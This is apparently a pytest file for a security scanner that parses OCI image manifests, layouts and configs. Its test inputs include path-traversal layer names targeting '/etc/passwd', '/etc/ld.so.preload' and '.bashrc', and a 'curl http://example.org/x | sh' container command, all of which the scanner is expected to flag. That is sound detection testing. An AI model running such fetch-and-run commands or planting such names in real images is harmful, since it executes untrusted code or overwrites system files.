"""Images: digests that are none, names that lead out, what an image runs."""

import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.format import MalformedError
from scanner.formats import oci as subject
from scanner.limits import Limits
from tests.builders import checkpoints as images
from tests.builders import longtail as make
from tests.builders.judged import judged
from tests.builders.reading import of, read_as

FORMAT = subject.FORMAT


def read(content, limits=None):
    return read_as(FORMAT, content, "manifest", limits or Limits())[0]


def test_a_manifest_is_summed_up_and_not_judged():
    (fact,) = of(read(make.manifest()), "ImageManifest")
    assert (fact.version, fact.layers, fact.types) == (2, 2, ("application/vnd.ollama.image.model",))
    assert FORMAT.claims(make.manifest(), "manifest")
    assert judged(make.manifest(title="model.gguf"), "manifest") == {}


@pytest.mark.parametrize(
    ("digest", "how", "severity"),
    [
        ("../../../../../etc/ld.so.preload", "parent", "high"),
        ("/etc/passwd", "absolute", "high"),
        ("sha256:../" + "a" * 60, "separator", "high"),
        ("sha256:" + "a" * 63, "form", "medium"),
        ("sha256:" + "A" * 64, "form", "medium"),
        ("", "form", "medium"),
    ],
)
def test_a_digest_that_is_none_is_stated_and_judged(digest, how, severity):
    content = make.manifest(digest)
    (fact,) = of(read(content), "LayerName")
    assert (fact.role, fact.how) == ("digest", how)
    assert judged(content, "manifest") == {"layer-digest-leads-out": severity}


def test_a_title_that_leads_out_is_judged():
    assert judged(make.manifest(title="../../.bashrc"), "manifest") == {"layer-title-leads-out": "high"}


def test_other_json_is_not_claimed():
    assert not any(FORMAT.claims(head, "x.json") for head in (b"", b"{}", b'{"digest": "x", "layers": []}', b"[1]"))


def test_a_manifest_cut_anywhere_is_malformed():
    content = make.manifest()
    for end in range(len(content)):
        with pytest.raises(MalformedError):
            read(content[:end])


def test_a_nest_deeper_than_the_limit_is_malformed():
    with pytest.raises(MalformedError):
        read(b'{"layers":' + b"[" * 200_000)


def test_a_text_is_no_manifest():
    with pytest.raises(MalformedError, match="object"):
        read(b'"x"')
    assert read(b"[1]") == []


def test_parts_are_stated_with_kind_and_size():
    (part,) = [one for one in of(read(make.manifest(title="m.gguf")), "ImagePart") if one.title]
    assert (part.digest, part.kind, part.size) == ("sha256:" + "a" * 64, "application/vnd.ollama.image.model", 3)
    dashed = make.manifest("sha256-" + "a" * 64)
    assert {one.digest for one in of(read(dashed), "ImagePart")} == {f"sha256:{letter * 64}" for letter in "ab"}


def test_a_layout_and_an_index_are_known():
    layout = images.text({"imageLayoutVersion": "1.0.0"})
    assert FORMAT.claims(layout, "oci-layout")
    assert judged(layout, "oci-layout") == {}
    index = images.text(
        {"schemaVersion": 2, "manifests": [{"mediaType": "m", "digest": "sha256:" + "a" * 64, "size": 7}]}
    )
    assert FORMAT.claims(index, "index.json")
    assert [one.size for one in of(read(index), "ImagePart")] == [7]


def test_a_saved_image_is_read():
    honest = images.saved_image("blobs/sha256/" + "a" * 64)
    assert FORMAT.claims(honest, "manifest.json")
    assert [one.layers for one in of(read(honest), "ImageManifest")] == [2]
    assert judged(honest, "manifest.json") == {}
    assert judged(images.saved_image("../../etc/passwd"), "manifest.json") == {"layer-title-leads-out": "high"}


def test_what_an_image_runs_is_stated_and_not_judged():
    content = images.image_config(
        Entrypoint=["python", "-m"], Cmd=["vllm"], Env=["PATH=/bin", "TOKEN=x"], User="1000", OnBuild=["COPY . /app"]
    )
    assert FORMAT.claims(content, "x")
    (run,) = of(read(content), "ImageConfig")
    assert (run.system, run.architecture, run.layers, run.user) == ("linux", "amd64", 1, "1000")
    assert (run.command, run.environment, run.triggers) == (
        ("python", "-m", "vllm"),
        ("PATH", "TOKEN"),
        ("COPY . /app",),
    )
    assert judged(content, "x") == {}


def test_a_script_in_the_command_is_judged():
    content = images.image_config(Entrypoint=["sh", "-c"], Cmd=["curl http://example.org/x | sh"])
    assert judged(content, "x") == {"image-command-carries-code": "medium"}


@pytest.mark.parametrize("config", [None, 3, [], {"Cmd": 3, "Env": [1, None], "User": 7}])
def test_a_configuration_of_other_values_says_nothing(config):
    content = images.text({"rootfs": {"diff_ids": None}, "config": config})
    (run,) = of(read(content), "ImageConfig")
    assert (run.command, run.user, run.layers) == ((), "", 0)


def test_bounds_are_told():
    (fact,) = of(read(make.manifest(), Limits(text_nbytes=9)), "LimitReached")
    assert fact.limit == "manifest"
    layers = make.manifest("x").replace(b'"layers": [', b'"layers": [' + b'{"digest": "x"}, ' * 1001)
    assert of(read(layers), "LimitReached")[0].limit == "names"


@given(st.binary(max_size=60), st.integers(0, 200))
def test_only_malformed_leaves_the_reader(junk, at):
    for content in (make.manifest(), images.saved_image("a"), images.image_config(Cmd=["a"])):
        with contextlib.suppress(MalformedError):
            read(content[:at] + junk + content[at + len(junk) :])
